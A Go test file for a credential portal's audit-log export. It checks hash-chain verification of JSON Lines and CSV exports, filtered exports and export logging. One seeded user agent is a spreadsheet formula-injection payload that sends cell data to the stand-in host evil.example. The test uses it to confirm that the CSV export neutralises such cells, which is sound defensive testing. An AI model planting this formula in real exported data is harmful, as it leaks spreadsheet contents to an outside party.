package server

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/2i2c-org/credential-portal/internal/portal"
)

// exportLine is one line of the JSON Lines export, read as an offline
// verifier would, knowing only the documented format.
type exportLine struct {
	ID          int64           `json:"id"`
	At          string          `json:"at"`
	ActorID     *int64          `json:"actor_id"`
	Actor       string          `json:"actor"`
	Action      string          `json:"action"`
	SubjectType string          `json:"subject_type"`
	SubjectID   *int64          `json:"subject_id"`
	ClusterID   *int64          `json:"cluster_id"`
	Details     json.RawMessage `json:"details"`
	IP          string          `json:"ip"`
	UserAgent   string          `json:"user_agent"`
	PrevHash    string          `json:"prev_hash"`
	Hash        string          `json:"hash"`
}

// verifyOffline checks exported events the way the export's documentation
// says: each event's hash from its fields and prev_hash and, when linked,
// each prev_hash against the hash of the event before. It returns the ID of
// the first event that does not check out, or 0.
func verifyOffline(t *testing.T, lines []exportLine, linked bool) int64 {
	t.Helper()
	prev := hex.EncodeToString(portal.GenesisHash())
	for _, l := range lines {
		at, err := time.Parse(time.RFC3339Nano, l.At)
		if err != nil {
			t.Fatalf("event %d: at %q: %v", l.ID, l.At, err)
		}
		dec := json.NewDecoder(bytes.NewReader(l.Details))
		dec.UseNumber()
		var details map[string]any
		if err := dec.Decode(&details); err != nil {
			t.Fatalf("event %d: details: %v", l.ID, err)
		}
		e := portal.AuditEvent{At: at, ActorID: l.ActorID, Actor: l.Actor, Action: portal.Action(l.Action), SubjectType: l.SubjectType,
			SubjectID: l.SubjectID, ClusterID: l.ClusterID, Details: details, IP: l.IP, UserAgent: l.UserAgent}
		prevHash, err := hex.DecodeString(l.PrevHash)
		if err != nil {
			t.Fatal(err)
		}
		h, err := e.ChainHash(prevHash)
		if err != nil {
			t.Fatal(err)
		}
		if hex.EncodeToString(h) != l.Hash || (linked && l.PrevHash != prev) {
			return l.ID
		}
		prev = l.Hash
	}
	return 0
}

func TestAuditExportsVerifyOffline(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	sam := p.browser()
	sam.signIn("sam@2i2c.org")
	// More events than one flush, one with a user agent a spreadsheet would
	// run as a formula, one with a number beyond float64's digits.
	seedAudit(t, p, 2345, func(i int, e *portal.AuditEvent) {
		switch i {
		case 7:
			e.UserAgent = `=HYPERLINK("https://evil.example/?"&A1,"click")`
		case 8:
			e.UserAgent = `'quoted`
		case 9:
			e.Details = map[string]any{"big": int64(1)<<62 + 1, "text": "tab\there, \"quotes\", <&>"}
		}
	})
	total := p.count(`SELECT count(*) FROM audit_events`)

	r := sam.get("/staff/audit/export.jsonl")
	today := time.Now().UTC().Format("2006-01-02")
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Disposition") != `attachment; filename="audit-`+today+`.jsonl"` ||
		!strings.HasPrefix(r.Header.Get("Content-Type"), "application/x-ndjson") {
		t.Fatalf("JSON Lines export: %d, %q, %q", r.StatusCode, r.Header.Get("Content-Disposition"), r.Header.Get("Content-Type"))
	}
	var lines []exportLine
	sc := bufio.NewScanner(strings.NewReader(r.Body))
	for sc.Scan() {
		var l exportLine
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("line %d: %v", len(lines)+1, err)
		}
		lines = append(lines, l)
	}
	if len(lines) != total || !slices.IsSortedFunc(lines, func(a, b exportLine) int { return int(a.ID - b.ID) }) {
		t.Fatalf("%d lines, want all %d events oldest first", len(lines), total)
	}
	if broken := verifyOffline(t, lines, true); broken != 0 {
		t.Errorf("the export does not verify offline at event %d", broken)
	}

	// The CSV export holds the same, with formula-looking cells quoted.
	r = sam.get("/staff/audit/export.csv")
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Disposition") != `attachment; filename="audit-`+today+`.csv"` {
		t.Fatalf("CSV export: %d, %q", r.StatusCode, r.Header.Get("Content-Disposition"))
	}
	records, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[0], auditCSVColumns) || len(records) != total+1 {
		t.Fatalf("CSV: header %v, %d rows; want %d", records[0], len(records)-1, total)
	}
	col := map[string]int{}
	for i, name := range records[0] {
		col[name] = i
	}
	var fromCSV []exportLine
	for _, rec := range records[1:] {
		cell := func(name string) string { return strings.TrimPrefix(rec[col[name]], "'") } // undo the spreadsheet quoting
		id := func(name string) *int64 {
			if cell(name) == "" {
				return nil
			}
			var n int64
			fmt.Sscan(cell(name), &n)
			return &n
		}
		var n int64
		fmt.Sscan(cell("id"), &n)
		fromCSV = append(fromCSV, exportLine{ID: n, At: cell("at"), ActorID: id("actor_id"), Actor: cell("actor"), Action: cell("action"),
			SubjectType: cell("subject_type"), SubjectID: id("subject_id"), ClusterID: id("cluster_id"), Details: json.RawMessage(cell("details")),
			IP: cell("ip"), UserAgent: cell("user_agent"), PrevHash: cell("prev_hash"), Hash: cell("hash")})
		if ua := rec[col["user_agent"]]; strings.HasPrefix(ua, "=") || ua == "'quoted" {
			t.Errorf("CSV cell %q is not quoted for spreadsheets", ua)
		}
	}
	if broken := verifyOffline(t, fromCSV, true); broken != 0 {
		t.Errorf("the CSV export does not verify offline at event %d", broken)
	}

	// A filtered export holds the selection; each event checks out alone.
	r = sam.get("/api/v1/audit/export?format=jsonl&actor=user2@example.org")
	n := strings.Count(r.Body, "\n")
	lines = lines[:0]
	for l := range strings.Lines(r.Body) {
		var e exportLine
		if err := json.Unmarshal([]byte(l), &e); err != nil || e.Actor != "user2@example.org" {
			t.Fatalf("filtered export line %q: %v", l, err)
		}
		lines = append(lines, e)
	}
	if n != 2345/3 || verifyOffline(t, lines, false) != 0 {
		t.Errorf("filtered export: %d lines, want %d that each verify", n, 2345/3)
	}
	if r := sam.get("/api/v1/audit/export?format=xml"); r.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(r.Body, `"field":"format"`) {
		t.Errorf("export as xml: %d %s", r.StatusCode, r.Body)
	}
	// Exports are logged, not audited: reading changes nothing.
	if !strings.Contains(p.logs.String(), `"msg":"audit export"`) {
		t.Error("no log line for the exports")
	}
	if n := p.count(`SELECT count(*) FROM audit_events`); n != total {
		t.Errorf("exporting wrote %d audit events", n-total)
	}
}
